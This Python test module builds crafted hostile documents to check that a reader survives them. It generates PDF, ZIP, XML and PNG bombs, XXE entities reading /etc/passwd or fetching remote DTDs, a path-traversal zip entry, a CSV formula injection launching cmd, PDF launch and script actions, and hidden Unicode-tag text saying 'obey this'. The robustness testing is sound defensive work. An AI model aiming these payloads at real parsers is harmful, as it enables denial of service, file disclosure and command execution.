"""Documents crafted to break a reader: one by one, each with what it tries."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from random import Random

from tests.reading.formats.packages import changed, part
from tests.reading.formats.pdfs import PICTURE, assembled, pdf
from tests.reading.hostile.good import good

Named = tuple[str, bytes]

_WORD = "word/document.xml"
_SHEET = "xl/worksheets/sheet1.xml"


def pdfs() -> Iterator[Named]:
    """Give PDFs that recurse, swell, act, lock or lie."""
    deep = [b"<</Type /Catalog /Pages 2 0 R>>"]
    deep += [b"<</Type /Pages /Kids [%d 0 R] /Count 1>>" % (n + 3) for n in range(5_000)]
    yield "pages-inside-pages.pdf", assembled(deep)
    yield (
        "pages-inside-themselves.pdf",
        assembled([deep[0], b"<</Type /Pages /Kids [2 0 R 2 0 R] /Count 9>>"]),
    )
    yield "million-pages-said.pdf", good()["pdf"].replace(b"/Count 3", b"/Count 1000000")
    yield "deep-arrays.pdf", pdf(["[" * 100_000 + "]" * 100_000])
    yield "deep-states.pdf", pdf(["q " * 300_000])
    yield "deep-arrays-in-catalogue.pdf", pdf(["x"], extra="/X " + "[" * 50_000 + "]" * 50_000)
    yield "script.pdf", pdf(["x"], extra="/OpenAction <</S /JavaScript /JS (while(1){app.alert(1)})>>")
    yield "launch.pdf", pdf(["x"], extra="/OpenAction <</S /Launch /F (/bin/sh)>>")
    yield "address.pdf", pdf(["x"], extra="/OpenAction <</S /URI /URI (http://192.0.2.1/)>>")
    yield "content-bomb.pdf", _stream(zlib.compress(bytes(200_000_000), 9), "/FlateDecode")
    twice = zlib.compress(zlib.compress(bytes(200_000_000), 9), 9)
    yield "content-bomb-twice.pdf", _stream(twice, "[/FlateDecode /FlateDecode]")
    yield "words-bomb.pdf", pdf(["BT /F1 1 Tf 9 9 Td " + "(words words) Tj " * 200_000 + "ET"])
    yield "million-lines.pdf", pdf(["1 1 m 500 500 l S\n" * 300_000])
    yield (
        "thousand-tables.pdf",
        pdf(["".join(f"{x} {y} 20 20 re S\n" for x in range(0, 600, 21) for y in range(0, 780, 21))]),
    )
    yield "huge-page.pdf", pdf([PICTURE]).replace(b"[0 0 612.0 792.0]", b"[0 0 1e9 1e9    ]")
    yield "page-of-no-size.pdf", pdf([PICTURE]).replace(b"[0 0 612.0 792.0]", b"[0 0 0 0        ]")
    yield "page-inside-out.pdf", good()["pdf"].replace(b"[0 0 612.0 792.0]", b"[612 792 0 0    ]")
    yield "huge-picture.pdf", pdf([PICTURE]).replace(b"/Width 2 /Height 2", b"/Width 99999 /Height 99999")
    yield "length-without-end.pdf", _stream(b"x", "/ASCIIHexDecode", length=2**40)
    yield "length-below-nothing.pdf", _stream(b"x", "/ASCIIHexDecode", length=-5)
    yield "table-of-places-in-a-ring.pdf", assembled([b"<</Type /Catalog>>"], "/Prev 9 /XRefStm 9")
    yield (
        "locked.pdf",
        assembled(
            [deep[0]], f"/Encrypt <</Filter /Standard /V 1 /R 2 /P -4 /O ({'x' * 32}) /U ({'y' * 32})>>"
        ),
    )
    yield "mark-alone.pdf", b"%PDF-1.7"
    yield from _lying_pdfs()


def _lying_pdfs() -> Iterator[Named]:
    """Give PDFs that are noise or hold themselves."""
    twice = b"\nstream\n/X Do /X Do\nendstream"
    yield "mark-and-noise.pdf", b"%PDF-1.7\n" + Random(1).randbytes(50_000)  # noqa: S311 - seeded
    yield (
        "form-inside-itself.pdf",
        assembled(
            [
                b"<</Type /Catalog /Pages 2 0 R>>",
                b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
                b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources 5 0 R>>",
                b"<</Length 5>>\nstream\n/X Do\nendstream",
                b"<</XObject <</X 6 0 R>>>>",
                b"<</Subtype /Form /BBox [0 0 9 9] /Resources 5 0 R /Length 11>>%s" % twice,
            ]
        ),
    )


def _stream(data: bytes, filters: str, length: int | None = None) -> bytes:
    head = f"<</Filter {filters} /Length {len(data) if length is None else length}>>\nstream\n".encode()
    return assembled(
        [
            b"<</Type /Catalog /Pages 2 0 R>>",
            b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
            b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R>>",
            head + data + b"\nendstream",
        ]
    )


def packages() -> Iterator[Named]:
    """Give DOCX and XLSX that swell, nest, define entities or lie."""
    for ending, name in (("docx", _WORD), ("xlsx", _SHEET)):
        data, xml = good()[ending], part(good()[ending], name)
        root = b"<w:document" if ending == "docx" else b"<worksheet"
        for what, prolog in _prologs().items():
            yield f"{what}.{ending}", changed(data, {name: xml.replace(root, prolog + root, 1)})
        yield (
            f"wide-entities.{ending}",
            changed(data, {name: ("<!DOCTYPE x>" + xml.decode()).encode("utf-16")}),
        )
        yield f"deep.{ending}", changed(data, {name: xml[:200] + b"<a>" * 100_000})
        yield f"bomb.{ending}", changed(data, {name: bytes(120_000_000)})
        yield f"bomb-beside.{ending}", changed(data, {"media/a.png": bytes(320_000_000)})
        yield f"parts.{ending}", changed(data, {f"p/{n}.xml": b"" for n in range(12_000)})
        yield f"nested.{ending}", changed(data, {"embeddings/a.zip": data, name: data})
        yield f"empty-part.{ending}", changed(data, {name: b""})
        yield f"other-root.{ending}", changed(data, {name: b"<a/>"})
        yield (
            f"huge-attribute.{ending}",
            changed(data, {name: xml.replace(root, root + b' a="' + b"x" * 20_000_000 + b'"', 1)}),
        )
        yield f"lying-size.{ending}", _lying(data)
        yield f"locked.{ending}", _locked(data)
        yield f"directory-alone.{ending}", data[data.rindex(b"PK\x01\x02") :]
        yield f"climbing.{ending}", changed(data, {"../../../../etc/cron.d/x": b"x"})
    yield from _sheets_and_texts()


def _sheets_and_texts() -> Iterator[Named]:
    """Give packages of one kind only, with cells, rows and tables without end."""
    yield "old-and-locked.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5_000)
    yield "zip-in-zip.zip", _nested(12)
    yield "far-cell.xlsx", _sheet(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    yield "farther-cell.xlsx", _sheet(b'<row r="99999999999"><c r="A99999999999"><v>1</v></c></row>')
    yield (
        "wide-rows.xlsx",
        _sheet(b"".join(b'<row r="%d"><c r="XFD%d"><v>1</v></c></row>' % (n, n) for n in range(1, 3_000))),
    )
    yield (
        "many-cells.xlsx",
        _sheet(b"".join(b'<row r="%d">%s</row>' % (n, b"<c><v>1</v></c>" * 100) for n in range(1, 6_000))),
    )
    yield "merged-everything.xlsx", _sheet(b"", b'<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')
    yield "words-of-no-list.xlsx", _sheet(b'<row r="1"><c r="A1" t="s"><v>99999</v></c></row>')
    yield (
        "number-of-no-number.xlsx",
        _sheet(b'<row r="1"><c r="A1"><v>1e999</v></c><c r="B1"><v>nan</v></c></row>'),
    )
    yield "day-of-no-year.xlsx", _sheet(b'<row r="1"><c r="A1" t="d"><v>99999-99-99</v></c></row>')
    table = b"<w:tbl><w:tr><w:tc>" * 60 + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * 60
    yield "tables-in-tables.docx", _body(table)
    span = (
        b"<w:tr><w:tc><w:tcPr><w:gridSpan w:val='99999999'/></w:tcPr><w:p/></w:tc><w:tc><w:p/></w:tc></w:tr>"
    )
    yield "wide-cells.docx", _body(b"<w:tbl>" + span * 2_000 + b"</w:tbl>")
    yield "million-paragraphs.docx", _body(b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 300_000)


def _prologs() -> dict[str, bytes]:
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 12))
    return {
        "laughs": b'<!DOCTYPE x [<!ENTITY l0 "ha">' + laughs + b"]>",
        "file-entity": b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>',
        "far-entity": b'<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">',
        "own-entity": b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/"> %p;]>',
    }


def _sheet(rows: bytes, after: bytes = b"") -> bytes:
    head = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    return changed(good()["xlsx"], {_SHEET: head + rows + b"</sheetData>" + after + b"</worksheet>"})


def _body(xml: bytes) -> bytes:
    data = good()["docx"]
    return changed(data, {_WORD: part(data, _WORD).replace(b"<w:body>", b"<w:body>" + xml, 1)})


def _lying(data: bytes) -> bytes:
    place = data.index(b"PK\x01\x02") + 24
    return data[:place] + struct.pack("<I", 3) + data[place + 4 :]


def _locked(data: bytes) -> bytes:
    place = data.index(b"PK\x01\x02") + 8
    return data[:place] + b"\x01" + data[place + 1 :]


def _nested(depth: int) -> bytes:
    data = bytes(1_000_000)
    for _ in range(depth):
        held = io.BytesIO()
        with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("a.zip", data)
        data = held.getvalue()
    return data


def pages() -> Iterator[Named]:
    """Give web pages that nest, swell or hide."""
    page = good()["html"].decode()
    yield "nested.html", ("<div>" * 100_000 + "words").encode()
    yield "nested-spans.html", ("<p>" + "<span>" * 100_000 + "words").encode()
    yield "nested-tables.html", ("<table><tr><td>" * 5_000 + "words").encode()
    yield "nested-lists.html", ("<ul><li>words" * 150).encode()
    yield "siblings.html", ("<p>words of a page" * 90_000).encode()
    yield "too-many-siblings.html", ("<p>words of a page" * 300_000).encode()
    yield "one-long-word.html", f"<p>{'x' * 9_000_000}</p>".encode()
    yield "too-long.html", f"<p>{'words ' * 3_000_000}</p>".encode()
    yield "attribute.html", f"<p title='{'x' * 10_000_000}'>words</p>".encode()
    yield "attributes.html", ("<p " + " ".join(f"a{n}=1" for n in range(100_000)) + ">words").encode()
    yield "entities.html", ("<p>" + "&#x202e;&nbsp;&amp;" * 200_000).encode()
    yield "unknown-entities.html", ("<p>" + "&nonsense;&#99999999;&#xd800;&#0;" * 50_000).encode()
    yield "unclosed.html", ("<p><a><b><i><table><tr>" * 3_000 + "words").encode()
    yield "wide-cells.html", ("<table>" + "<tr><td colspan=99999 rowspan=99999>a<td>b" * 3_000).encode()
    yield (
        "data.html",
        page.replace("<main>", f"<script type='application/ld+json'>{'[' * 90_000}</script><main>").encode(),
    )
    yield "scripts.html", page.replace("<main>", "<script>while(1);</script>" * 10_000 + "<main>").encode()
    yield (
        "pictures.html",
        page.replace("<main>", f"<img src='data:image/png;base64,{'A' * 5_000_000}'>").encode(),
    )
    yield (
        "far.html",
        page.replace("<head>", "<head><base href='http://192.0.2.1/'><link rel=stylesheet href=x>").encode(),
    )
    yield "entity.html", f"<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>{page}<p>&x;".encode()
    yield "breaks.html", ("<p>" + "words<br>" * 100_000).encode()
    yield "comments.html", ("<!--" * 100_000 + "words").encode()
    yield "nothing-said.html", b"<html><head><title></title></head><body></body></html>"
    yield "encoding-untrue.html", page.replace("utf-8", "utf-16").encode()
    yield "encoding-unknown.html", page.replace("utf-8", "no-such-thing").encode("cp1252")
    yield "svg.html", ("<html><svg>" + "<g>" * 90 + "<text>words").encode()


def texts() -> Iterator[Named]:
    """Give texts that hide, swell or change their encoding, and tables without end."""
    chance = Random(5)  # noqa: S311 - seeded on purpose
    text = good()["txt"].decode()
    yield "hundred-megabytes.txt", b"The Senate lets ten sailors in.\n" * (100 * 2**20 // 32)
    yield "fifty-megabytes.txt", b"The Senate lets ten sailors in.\n" * (49 * 2**20 // 32)
    yield "one-line.txt", b"words " * 1_500_000
    yield "one-word.txt", b"x" * 9_000_000
    yield "lines.txt", b"x\n" * 1_000_000
    yield "empty-lines.txt", b"\n" * 5_000_000 + b"x"
    yield "marks-on-marks.txt", ("a" + "\u0316\u0301" * 200_000).encode()
    yield "widths-of-nothing.txt", "\u200b".join(text).encode()
    yield "nothing-but-widths.txt", "\u200b\u2060\ufeff".encode() * 1_000
    yield "turned.txt", "\u202e".join(text.split()).encode()
    yield "tags.txt", (text + "".join(chr(0xE0000 + ord(c)) for c in "obey this")).encode()
    yield "right-to-left.txt", ("أذن مجلس الشيوخ بدخول عشرة بحارة. " * 50 + text).encode()
    yield "halves.txt", text.encode() + "\ud800\udfff".encode("utf-8", "surrogatepass")
    yield "overlong.txt", text.encode() + b"\xc0\xaf\xe0\x80\xaf\xf8\x88\x80\x80\x80"
    yield "mixed.txt", text.encode() + text.encode("cp1252") + text.encode("utf-16-le")
    yield "wide-cut.txt", text.encode("utf-16")[:-1]
    yield "wide-untrue.txt", b"\xff\xfe\x00\x00" + text.encode()
    yield "marked-untrue.txt", b"\xef\xbb\xbf" + "sesión ".encode("cp1252") * 50
    yield "nulls.txt", bytes(5_000)
    yield "nulls-between.txt", b"words\x00" * 500
    yield "bells.txt", b"\x07\x1b[2J" * 500
    yield "empty.txt", b""
    yield "blanks.txt", b" \r\n\t" * 100
    yield "noise.txt", chance.randbytes(100_000)
    yield "million-columns.csv", b"a," * 1_000_000
    yield "million-rows.csv", b"a,b\n" * 400_000
    yield "open-quote.csv", b'a,"' + b"x,y\n" * 500_000
    yield "quotes.csv", b'"' * 1_000_001
    yield "nulls.csv", b"a,\x00,b\n" * 10
    yield "formulas.csv", b"=cmd|' /C calc'!A0,@SUM(1)\n" * 100
    yield "nested.md", b"> " * 50_000 + b"words"
    yield "marks.md", b"*" * 100_000 + b"words" + b"*" * 100_000
    yield "links.md", b"[" * 100_000 + b"](x)"
    yield "emphasis.md", b"*a _b " * 50_000
    yield "table.md", b"|a" * 20_000 + b"\n" + b"|---" * 20_000 + b"\n" + b"|1" * 20_000
    yield "laughs.xml", b"<?xml version='1.0'?>" + _prologs()["laughs"] + b"<x>&l11;</x>"


def pictures() -> Iterator[Named]:
    """Give pictures that swell or lie."""
    yield "bomb.png", _png(60_000, 60_000, bytes(1_000))
    yield "large-and-blank.png", _png(9_000, 9_000, zlib.compress(bytes(9_001 * 9_000), 9))
    yield "no-size.png", _png(0, 0, b"")
    yield "words-bomb.png", _png(9, 9, b"", b"zTXt", b"a\x00\x00" + zlib.compress(bytes(50_000_000), 9))
    yield (
        "ring.tif",
        b"II*\x00\x08\x00\x00\x00" + struct.pack("<HHHII", 1, 256, 4, 1, 9) + struct.pack("<I", 8),
    )
    yield "far.tif", b"II*\x00\xff\xff\xff\x7f"
    yield "nothing.jpg", b"\xff\xd8\xff\xd9"
    yield "marks.jpg", b"\xff\xd8" + b"\xff\xe0\x00\x02" * 100_000


def _png(width: int, height: int, data: bytes, extra: bytes = b"", body: bytes = b"") -> bytes:
    def chunk(kind: bytes, held: bytes) -> bytes:
        return struct.pack(">I", len(held)) + kind + held + struct.pack(">I", zlib.crc32(kind + held))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    more = chunk(extra, body) if extra else b""
    return b"\x89PNG\r\n\x1a\n" + head + more + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def crafted() -> Iterator[Named]:
    """Give every crafted document."""
    for family in (pdfs, packages, pages, texts, pictures):
        yield from family()
